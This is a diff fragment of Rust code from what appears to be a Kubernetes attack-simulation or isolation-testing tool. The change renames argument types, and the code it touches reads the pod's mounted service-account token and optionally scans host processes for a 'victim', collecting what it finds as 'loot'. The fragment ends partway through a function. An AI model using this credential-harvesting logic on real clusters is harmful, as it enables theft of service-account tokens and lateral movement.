@@ -6,8 +6,8 @@ use std::time::{Duration, Instant};
 
 use plumbline_kubernetes::names;
 
-use super::report::{Attempt, Attempts};
-use crate::args::AttackArgs;
+use super::super::AttackOptions;
+use super::{Attempt, Attempts};
 
 /// Where the kubelet mounts tokens.
 const TOKEN: &str = "var/run/secrets/kubernetes.io/serviceaccount/token";
@@ -36,16 +36,16 @@ pub(super) struct Certificate {
     pub(super) pem: String,
 }
 
-pub(super) async fn search(args: &AttackArgs, attempts: &mut Attempts) -> Loot {
+pub(super) async fn search(options: &AttackOptions, attempts: &mut Attempts<'_>) -> Loot {
     let mut loot = Loot::default();
     token(Path::new("/"), "this pod", &mut loot, attempts);
-    if args.host_processes {
-        look_at_processes(&args.victim, &mut loot, attempts).await;
+    if options.host_processes {
+        look_at_processes(&options.victim, &mut loot, attempts).await;
     }
     loot
 }
 
-fn token(root: &Path, place: &str, loot: &mut Loot, attempts: &mut Attempts) {
+fn token(root: &Path, place: &str, loot: &mut Loot, attempts: &mut Attempts<'_>) {
     let attempt = match fs::read_to_string(root.join(TOKEN)) {
         Ok(token) => {
             loot.tokens.push((place.to_owned(), token.trim().to_owned()));
@@ -58,7 +58,7 @@ fn token(root: &Path, place: &str, loot: &mut Loot, attempts: &mut Attempts) {
 
 /// Workers and the aggregator among the processes of the node, if it shows them. A worker of the victim must be among
 /// them, otherwise nothing was tried.
-async fn look_at_processes(victim: &str, loot: &mut Loot, attempts: &mut Attempts) {
+async fn look_at_processes(victim: &str, loot: &mut Loot, attempts: &mut Attempts<'_>) {
     let deadline = Instant::now() + PATIENCE;
     let mut found = processes();
     while !(found.iter().any(|(_, role)| *role == Role::Victim)
